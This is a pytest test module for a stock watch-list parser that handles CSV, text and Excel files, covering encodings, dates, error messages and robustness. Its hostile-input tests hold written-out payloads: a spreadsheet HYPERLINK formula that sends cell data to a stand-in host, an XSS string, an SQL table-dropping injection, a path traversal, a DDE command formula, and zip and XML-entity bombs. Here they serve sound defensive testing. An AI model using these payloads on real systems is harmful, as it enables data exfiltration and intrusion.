"""What stands in a list, whatever it was written with, and what is said of one that can't be read."""

import csv
import io
import zipfile
from datetime import UTC, datetime
from time import perf_counter

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from universes.lists import cells, parsing, reading
from universes.lists.parsing import parse_file, parse_text

SLOW = settings(max_examples=150, deadline=None)


def file(data, name="list.csv"):
    return parse_file(name, len(data), io.BytesIO(data))


def symbols(parsed):
    return [entry.symbol for entry in parsed.entries if not entry.malformed]


def refused(data, name="list.csv"):
    with pytest.raises(reading.Unreadable) as told:
        file(data, name)
    assert name in str(told.value)
    return str(told.value)


def workbook(*rows, sheets=()):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for title in sheets:
        book.create_sheet(title).append(["MORE"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("between", [" ", ",", ", ", ";", "\t", "|", "\n", "\r\n", "\r", " \n\n ", " ; "])
def test_symbols_between_whatever_separates_them(between):
    assert symbols(parse_text(between.join(["nvda", "BTC/USDT", "^gspc", "BRK-B"]))) == [
        "NVDA",
        "BTC-USDT",
        "^GSPC",
        "BRK-B",
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-32", "cp1252", "latin-1"])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_encodings_and_separators(encoding, separator):
    lines = ["Name|Ticker|Note", 'Société Générale|GLE.PA|"Größe, gut"', "Nestlé|NESN.SW|"]
    text = "\r\n".join(line.replace("|", separator) for line in lines)
    parsed = file(text.encode(encoding))
    assert symbols(parsed) == ["GLE.PA", "NESN.SW"]
    assert parsed.entries[0].name == "Société Générale"
    assert parsed.entries[0].note == "Größe, gut"
    assert parsed.entries[1].line == 3


def test_a_past_with_and_without_a_heading():
    for text in (
        "symbol,joined,left\nAAPL,2015-03-19,\nGE,1907-11-07,2018-06-26",
        "AAPL,2015-03-19,\nGE,1907-11-07,2018-06-26",
        "AAPL 2015-03-19\nGE 1907-11-07 2018-06-26",
        "# a remark\nTicker;From;To\nAAPL;19.03.2015;\nGE;7 Nov 1907;June 26, 2018",
    ):
        parsed = parse_text(text)
        assert parsed.dated
        assert [(entry.symbol, entry.joined, entry.left) for entry in parsed.entries] == [
            ("AAPL", datetime(2015, 3, 19, tzinfo=UTC), None),
            ("GE", datetime(1907, 11, 7, tzinfo=UTC), datetime(2018, 6, 26, tzinfo=UTC)),
        ]


@pytest.mark.parametrize(
    ("written", "says"),
    [
        ("03/04/2024", "can be two days; write 2024-04-03 or 2024-03-04"),
        ("3-4-2024", "can be two days"),
        ("1/2/20", "two digits"),
        ("2024-02-30", "is no day"),
        ("45123", "is no day"),
        ("tomorrow", "is no day"),
        ("2024111", "is no day"),
        ("5 Marble 2024", "is no day"),
        ("1850-01-01", "from 1900 until today"),
        ("2999-01-01", "from 1900 until today"),
        ("٢٠٢٤-٠١-٠١", "is no day"),
        ("x" * 10_000, "is no day"),
    ],
)
def test_a_day_that_is_none_is_refused_in_words_and_the_rest_is_kept(written, says):
    parsed = parse_text(f"symbol,joined\nAAPL,{written}\nMSFT,2024-01-01")
    wrong, right = parsed.entries
    assert wrong.malformed
    assert says in wrong.reason
    assert len(wrong.reason) < 300
    assert not right.malformed


@pytest.mark.parametrize(
    "written",
    ["2024-03-25", "20240325", "2024/3/25", "25/03/2024", "03/25/2024", "25.3.2024", "25 Mar 2024", "25-Mar-2024",
     "March 25, 2024", "Mar 25 2024", "25th march 2024", "2024-03-25T00:00:00Z", "2024-03-25 02:00:00+02:00"],
)  # fmt: skip
def test_days_that_mean_one_thing(written):
    assert cells.day(written) == datetime(2024, 3, 25, tzinfo=UTC)


def test_hostile_cells_are_malformed_and_nothing_else():
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"AAPL")', "<img src=x onerror=alert(1)>",
               "'; DROP TABLE core_user;--", "A" * 10_240, "AA\0PL", "=1+1", "@SUM(A1)", "../../etc/passwd",
               "2024-03-01"]  # fmt: skip
    out = io.StringIO()
    csv.writer(out).writerows([["symbol", "note"], *([cell, "x"] for cell in hostile), ["NVDA", "=cmd|' /C calc'!A0"]])
    parsed = file(out.getvalue().encode())
    assert parsed.entries[-1].symbol == "NVDA"
    assert parsed.entries[-1].note == "=cmd|' /C calc'!A0"  # text, and never anything else
    assert all(len(entry.written) <= 200 and "\0" not in entry.written for entry in parsed.entries)
    by_line = {entry.line: entry for entry in parsed.entries}
    assert "10,240 characters" in by_line[5].reason
    assert "NUL" in by_line[6].reason
    assert "is a date" in by_line[10].reason


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "is empty"),
        (b"\xef\xbb\xbf \r\n", "is empty"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00\x01" * 50, "a picture (JPEG)"),
        (b"\x89PNG\r\n\x1a\n", "a picture (PNG)"),
        (b"%PDF-1.7", "a PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old or protected Excel file"),
        (b"PK\x03\x04 cut off", "no workbook that can be read"),
        (bytes(range(32)) * 40, "full of control characters"),
        ("AAPL\nMSFT".encode("utf-16-le"), "UTF-16 without its mark"),
        (b"\xff\xfe\x00\xd8\x41", "is not"),
        (b"symbol,joined\n", "holds no symbol"),
        (b'{"a": 1}', "without a list of members"),
        (b'{"members": [}', "is not"),
        (b"[" * 100_000 + b"]" * 100_000, "is not"),
    ],
)
def test_what_is_no_list_is_named_with_what_helps(data, says):
    assert says in refused(data, "watch list.csv")


def test_a_large_file_is_refused_before_it_is_read():
    class Untouchable:
        def read(self, *_):
            raise AssertionError("it was read")

    with pytest.raises(reading.Unreadable, match=r"big.csv has 100 MB; a list has at most 10 MB"):
        parse_file("big.csv", 100 * 2**20, Untouchable())


def test_a_workbook_gives_its_stored_values():
    rows = [["Rank", "Ticker", "Date added", "Left", "Note"], [1, "NVDA", datetime(2024, 3, 8), None, "=1+1"],
            [2, 700, "2020-01-01", datetime(2021, 1, 1), "'=2"], [3, True, None, None, 1.5]]  # fmt: skip
    data = workbook(["A title"], [], *rows, sheets=["Other"])
    parsed = file(data, "list.csv")
    assert [entry.symbol for entry in parsed.entries] == ["NVDA", "700", "TRUE"]
    assert parsed.entries[0].joined == datetime(2024, 3, 8, tzinfo=UTC)
    assert [entry.note for entry in parsed.entries] == ["", "=2", "1.5"]  # a formula without a stored value is nothing
    assert [entry.position for entry in parsed.entries] == [1, 2, 3]
    assert parsed.entries[1].line == 5
    assert "Other" in parsed.remarks[0]


def test_half_a_character_that_a_workbook_escapes_can_be_stored():
    parsed = file(workbook(["symbol", "name", "note"], ["_xD800_", "", ""], ["NVDA", "_xDC00_", "_xDFFF_"]), "a.xlsx")
    told = [text for one in parsed.entries for text in (one.written, one.text, one.symbol, one.name, one.note)]
    assert "".join(told).encode()
    assert [one.text for one in parsed.entries] == ["\ufffd", "NVDA"]


def _packed(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _with(part, content):
    with zipfile.ZipFile(io.BytesIO(workbook(["symbol"], ["NVDA"]))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return _packed(parts | {part: content})


SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


def test_workbooks_that_are_traps():
    assert "unpacks to more than" in refused(_with("xl/media/bomb.bin", b"\0" * (40 * 2**20)), "a.xlsx")
    assert "ZIP archive" in refused(_packed({"list.csv": "NVDA"}), "a.xlsx")
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>' + SHEET.format("")
    assert "definitions" in refused(_with("xl/worksheets/sheet1.xml", bomb), "a.xlsx")
    assert "no workbook" in refused(_with("xl/worksheets/sheet1.xml", "<worksheet"), "a.xlsx")
    far = SHEET.format('<row r="1"><c r="A1" t="str"><v>NVDA</v></c><c r="XFD1"><v>1</v></c></row>'
                       '<row r="1048576"><c r="A1048576" t="str"><v>MSFT</v></c></row>')  # fmt: skip
    begun = perf_counter()
    assert symbols(file(_with("xl/worksheets/sheet1.xml", far), "a.xlsx")) == ["NVDA"]
    assert perf_counter() - begun < 10


def test_a_broken_quote_costs_nothing_but_itself():
    parsed = file(b'symbol,note\nAAPL,"fine, this"\n"MSFT,broken\nNVDA,"good"\nAMD,"x"y\nTSLA,z\n')
    assert symbols(parsed) == ["AAPL", "MSFT", "NVDA", "AMD", "TSLA"]
    assert parsed.entries[0].note == "fine, this"
    assert [remark[:6] for remark in parsed.remarks] == ["Line 3", "Line 5"]
    many = "symbol,note\n" + "".join(f'A{n},"open\n' for n in range(5_000))
    begun = perf_counter()
    parsed = parse_text(many)
    assert len(parsed.entries) == 5_000
    assert len(parsed.remarks) == reading.QUOTES
    assert perf_counter() - begun < 5


def test_more_than_a_list_may_have_is_counted():
    parsed = parse_text(" ".join(f"A{n}" for n in range(parsing.SYMBOLS + 70)) + " A1 A2")
    assert len(parsed.entries) == parsing.SYMBOLS + 2  # those that are in already may be said again
    assert parsed.beyond == 70


def test_what_charting_sites_write():
    parsed = parse_text("NASDAQ:NVDA,NYSE:BRK.B,$AAPL")
    assert symbols(parsed) == ["NVDA", "BRK.B", "AAPL"]
    assert parsed.entries[0].reason == "Read as NVDA."


@pytest.mark.parametrize("remark", ["bad symbol!", "and the last symbols:"])
def test_a_remark_below_that_speaks_of_symbols_is_no_heading(remark):
    assert symbols(parse_text(f"NVDA\nMSFT\n{remark}\nTSLA"))[:2] == ["NVDA", "MSFT"]
    assert "TSLA" in symbols(parse_text(f"NVDA\nMSFT\n{remark}\nTSLA"))


def test_words_of_headings_that_are_symbols_are_symbols():
    assert symbols(parse_text("CODE,ON,ALL\nASSET,OUT,IN")) == ["CODE", "ON", "ALL", "ASSET", "OUT", "IN"]


TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
PIECES = st.sampled_from([
    "symbol", "joined", "left", "tags", "NVDA", "03/04/2024", "2024-01-01", '"', ",", ";", "\t", "|", "\n", "\r",
    "=1+1", "\0", "\ufeff", "'", "[", "]", "{", "}", "$", "NASDAQ:", " ",
])  # fmt: skip


@SLOW
@given(st.lists(PIECES | TEXT, max_size=40).map("".join))
def test_no_text_raises_anything_but_its_own_error(text):
    try:
        parsed = parse_text(text)
    except reading.Unreadable:
        return
    assert parsed.entries
    for entry in parsed.entries:
        assert entry.malformed == bool(entry.reason) or entry.reason.startswith("Read as")
        assert "\0" not in entry.written + entry.note + entry.name + "".join(entry.tags)
        assert not (entry.left and not entry.joined) or entry.malformed


MARKS = st.sampled_from([b"PK\x03\x04", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"{", b"["])


@SLOW
@given(st.binary(max_size=300) | st.tuples(MARKS, st.binary(max_size=200)).map(b"".join))
def test_no_file_raises_anything_but_its_own_error(data):
    try:
        assert file(data).entries
    except reading.Unreadable as error:
        assert "list.csv" in str(error)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_no_damaged_workbook_raises_anything_but_its_own_error(data):
    whole = bytearray(_WORKBOOK)
    for _ in range(data.draw(st.integers(1, 8))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    try:
        assert file(bytes(whole[: data.draw(st.integers(1, len(whole)))]), "list.xlsx").entries
    except reading.Unreadable as error:
        assert "list.xlsx" in str(error)


_WORKBOOK = workbook(["symbol", "joined"], ["NVDA", datetime(2024, 1, 1)], ["MSFT", None])

SYMBOL = st.from_regex(r"[A-Z0-9^][A-Z0-9.^_-]{0,10}", fullmatch=True).filter(
    lambda text: not cells.looks_like_a_day(text) and not text.endswith("=X")
)
DAY = st.datetimes(datetime(1901, 1, 1), datetime(2020, 1, 1)).map(lambda at: at.replace(tzinfo=UTC))
NOTE = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40).map(str.strip)
SIGNS = st.characters(categories=["L", "N", "P", "S", "Zs"])
TAG = st.text(SIGNS, min_size=1, max_size=12).map(lambda text: " ".join(text.split()))


@SLOW
@given(
    st.lists(st.tuples(SYMBOL, DAY, NOTE, st.lists(TAG, max_size=2)), min_size=1, max_size=5), st.sampled_from(",;\t|")
)
def test_a_written_list_parses_back(stays, separator):
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=separator)
    writer.writerow(["symbol", "joined", "note", "tags"])
    for symbol, joined, note, tags in stays:
        writer.writerow([symbol, joined.isoformat(), cells.defused(note), cells.defused(cells.joined_tags(tags))])
    parsed = file(out.getvalue().encode())
    assert [entry.symbol for entry in parsed.entries] == [parsing.canonical(symbol) for symbol, *_ in stays]
    for entry, (_, joined, note, tags) in zip(parsed.entries, stays, strict=True):
        assert not entry.malformed, entry.reason
        assert entry.joined == joined
        assert entry.note == note
        folded = {tag.casefold() for tag in tags if tag}
        assert {tag.casefold() for tag in entry.tags} == folded


@SLOW
@given(NOTE | st.from_regex("'{0,3}[=+@-].{0,5}", fullmatch=True))
def test_defused_text_comes_back_and_computes_nothing(text):
    assert cells.plain(cells.defused(text)) == text
    assert cells.defused(text)[:1] not in tuple("=+-@\t\r\n＝＋－＠")
